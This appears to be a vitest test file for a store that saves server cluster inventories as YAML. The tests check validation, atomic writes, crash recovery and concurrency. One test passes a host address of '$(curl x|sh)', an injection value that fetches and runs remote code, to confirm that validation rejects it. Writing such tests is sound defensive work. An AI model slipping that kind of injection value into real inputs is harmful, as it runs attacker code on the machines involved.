import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { ClusterForm, Inventory } from '../../../shared/inventory/schema';
import { parseInventory, serializeInventory } from './inventory-yaml';
import { INVENTORY_FILE, InventoryStore, type InventoryChange } from './store';

const dirs: string[] = [];
const tempDir = () => {
  const dir = mkdtempSync(join(tmpdir(), 'sb-inventory-'));
  dirs.push(dir);
  return dir;
};
afterEach(() => {
  for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
});

const cluster = (name: string, address = '10.0.0.1'): ClusterForm => ({
  name,
  environment: 'staging',
  stacks: ['generic', 'rocketchat'],
  hosts: [{ name: 'rc-1', address, user: 'ops', roles: ['rocketchat'] }],
});

describe('InventoryStore', () => {
  it('saves clusters as YAML that a new store (or the CLI) reads back', async () => {
    const dir = tempDir();
    const store = new InventoryStore(dir);
    expect(await store.list()).toEqual([]);
    await store.save(cluster('chat'));
    await store.save(cluster('mqtt', 'mqtt.example.com'));

    const file = join(dir, INVENTORY_FILE);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const fromDisk = parseInventory(readFileSync(file, 'utf8'));
    expect(fromDisk.clusters.map((c) => c.name)).toEqual(['chat', 'mqtt']);
    const again = new InventoryStore(dir);
    expect(await again.get('mqtt')).toMatchObject({ hosts: [{ address: 'mqtt.example.com', port: 22, auth: { method: 'agent' } }] });
  });

  it('creates, renames, duplicates and deletes, refusing clashes and unknown names', async () => {
    const changes: InventoryChange[] = [];
    const store = new InventoryStore(tempDir(), { onChange: (change) => changes.push(change) });
    await store.save(cluster('chat'));
    await expect(store.save(cluster('chat'))).rejects.toMatchObject({ code: 'CONFLICT' });
    await store.save(cluster('chat-eu'), 'chat');
    await expect(store.get('chat')).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(store.save(cluster('x'), 'nope')).rejects.toMatchObject({ code: 'NOT_FOUND' });

    const copy = await store.duplicate('chat-eu');
    const second = await store.duplicate('chat-eu');
    expect([copy.name, second.name]).toEqual(['chat-eu-copy', 'chat-eu-copy-2']);
    await expect(store.duplicate('chat-eu', 'chat-eu-copy')).rejects.toMatchObject({ code: 'CONFLICT' });
    await expect(store.save(cluster('chat-eu'), 'chat-eu-copy')).rejects.toMatchObject({ code: 'CONFLICT' });

    await store.delete('chat-eu-copy');
    await expect(store.delete('chat-eu-copy')).rejects.toMatchObject({ code: 'NOT_FOUND' });
    expect((await store.list()).map((c) => c.name)).toEqual(['chat-eu', 'chat-eu-copy-2']);
    expect(changes).toEqual([
      { kind: 'saved', name: 'chat' },
      { kind: 'saved', name: 'chat-eu', previousName: 'chat' },
      { kind: 'saved', name: 'chat-eu-copy' },
      { kind: 'saved', name: 'chat-eu-copy-2' },
      { kind: 'deleted', name: 'chat-eu-copy' },
    ]);
  });

  it('refuses an invalid cluster with path-naming issues and leaves the file untouched', async () => {
    const dir = tempDir();
    const store = new InventoryStore(dir);
    await store.save(cluster('chat'));
    const before = readFileSync(join(dir, INVENTORY_FILE), 'utf8');
    const error = await store.save(cluster('evil', '$(curl x|sh)')).catch((e: unknown) => e);
    expect(error).toMatchObject({ code: 'INVALID_INPUT', details: { issues: [{ path: 'hosts[0].address' }] } });
    expect(readFileSync(join(dir, INVENTORY_FILE), 'utf8')).toBe(before);
  });

  it('keeps the previous file and state when a write fails midway', async () => {
    const dir = tempDir();
    let failNext = false;
    const store = new InventoryStore(dir, {
      serialize: (inventory: Inventory) => {
        const text = serializeInventory(inventory);
        if (failNext) throw new Error('disk full (simulated) after writing part of the text');
        return text;
      },
    });
    await store.save(cluster('chat'));
    const before = readFileSync(join(dir, INVENTORY_FILE), 'utf8');
    failNext = true;
    await expect(store.save(cluster('mqtt'))).rejects.toThrow('simulated');
    failNext = false;

    expect(readFileSync(join(dir, INVENTORY_FILE), 'utf8')).toBe(before);
    expect(readdirSync(dir)).toEqual([INVENTORY_FILE]);
    expect((await store.list()).map((c) => c.name)).toEqual(['chat']);
    await store.save(cluster('mqtt'));
    expect((await new InventoryStore(dir).list()).map((c) => c.name)).toEqual(['chat', 'mqtt']);
  });

  it('is not confused by a half-written temporary file left by a crash', async () => {
    const dir = tempDir();
    await new InventoryStore(dir).save(cluster('chat'));
    const full = readFileSync(join(dir, INVENTORY_FILE), 'utf8');
    writeFileSync(join(dir, `${INVENTORY_FILE}.1234abcd`), full.slice(0, full.length / 2));
    const store = new InventoryStore(dir);
    expect((await store.list()).map((c) => c.name)).toEqual(['chat']);
    await store.save(cluster('mqtt'));
    expect(parseInventory(readFileSync(join(dir, INVENTORY_FILE), 'utf8')).clusters).toHaveLength(2);
  });

  it('never overwrites a damaged file: every call fails, naming the problem, until it is fixed', async () => {
    const dir = tempDir();
    const file = join(dir, INVENTORY_FILE);
    const damaged = 'version: 1\nclusters:\n  - name: chat\n    environment: production\n    stacks: [generic]\n    hosts:\n      - { name: a, address: "a b", user: ops }\n';
    writeFileSync(file, damaged);
    const store = new InventoryStore(dir);
    await expect(store.list()).rejects.toThrow('clusters[0].hosts[0].address');
    await expect(store.save(cluster('new'))).rejects.toMatchObject({ code: 'INVALID_INPUT' });
    expect(readFileSync(file, 'utf8')).toBe(damaged);
    writeFileSync(file, damaged.replace('"a b"', 'a.example.com'));
    expect((await store.list()).map((c) => c.name)).toEqual(['chat']);
  });

  it('applies concurrent changes one after another without losing any', async () => {
    const dir = tempDir();
    const store = new InventoryStore(dir);
    await Promise.all(Array.from({ length: 12 }, (_, i) => store.save(cluster(`c${i}`))));
    const names = (await new InventoryStore(dir).list()).map((c) => c.name).sort();
    expect(names).toEqual(Array.from({ length: 12 }, (_, i) => `c${i}`).sort());
  });

  it('reports a data directory it cannot read or write, keeping its state', async () => {
    const parent = tempDir();
    const dataDir = join(parent, 'data');
    const store = new InventoryStore(dataDir);
    expect(await store.list()).toEqual([]);
    writeFileSync(dataDir, 'a file where the data directory should be');
    await expect(store.save(cluster('chat'))).rejects.toMatchObject({
      code: 'UNAVAILABLE',
      message: expect.stringMatching(/^Cannot save the inventory to .*inventory\.yaml \((EEXIST|ENOTDIR)\)$/),
    });
    expect(await store.list()).toEqual([]);
    await expect(new InventoryStore(dataDir).list()).rejects.toMatchObject({ code: 'UNAVAILABLE', message: expect.stringContaining('ENOTDIR') });
  });
});
